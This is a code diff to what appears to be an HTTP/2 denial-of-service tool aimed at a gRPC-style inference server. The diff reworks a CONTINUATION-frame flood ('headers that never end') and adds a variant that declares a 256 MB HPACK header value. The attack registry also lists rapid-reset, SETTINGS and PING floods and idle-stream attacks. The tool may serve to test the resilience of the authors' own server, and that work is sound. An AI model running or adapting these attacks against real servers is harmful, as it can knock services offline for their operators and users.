@@ -354,11 +354,18 @@ def idle_streams(attack: Attack, path: str) -> None:
     hold(attack, attack.size(20), 100, lambda one: one.call(block, None, end=False))
 
 
-def continuations(attack: Attack) -> None:
-    """Headers that never end."""
-    fields = b"\x10\x01a" + b"\x7f\x80\x7f" + bytes(16_000)  # a literal header, never indexed, of a large value
-    begin = frame(http2.HEADERS, 0, 1, encode_call(PREDICT))
-    rest = frame(http2.CONTINUATION, 0, 1, fields[: http2.LARGEST_FRAME])
+def continuations(attack: Attack, endless_value: bool) -> None:
+    """Headers that never end.
+
+    Args:
+        attack: the attack.
+        endless_value: one header of 256 MB; else one header of 16 kB after the other.
+    """
+    never_indexed, length_16000, length_2_28 = b"\x10\x01a", b"\x7f\x81\x7c", b"\x7f\x81\xff\xff\x7f"
+    value = b"v" * 16_000
+    first = never_indexed + length_2_28 if endless_value else b""
+    begin = frame(http2.HEADERS, 0, 1, encode_call(PREDICT) + first)
+    rest = frame(http2.CONTINUATION, 0, 1, value if endless_value else never_indexed + length_16000 + value)
     begun: set[Connection] = set()
 
     def chunk(one: Connection) -> bytes:
@@ -494,7 +501,8 @@ KINDS: dict[str, Callable[[Attack], None]] = {
     "unread-stream": unread_stream,
     "streams-idle": partial(idle_streams, path=STREAM_INFER),
     "reflection-idle": partial(idle_streams, path=REFLECTION),
-    "continuations": continuations,
+    "continuations": partial(continuations, endless_value=False),
+    "continuations-value": partial(continuations, endless_value=True),
     "settings": partial(repeat, frames=SETTINGS_FRAME, per_s=5000),
     "pings": partial(repeat, frames=frame(http2.PING, 0, 0, bytes(8)), per_s=5000),
     "rapid-reset": rapid_reset,
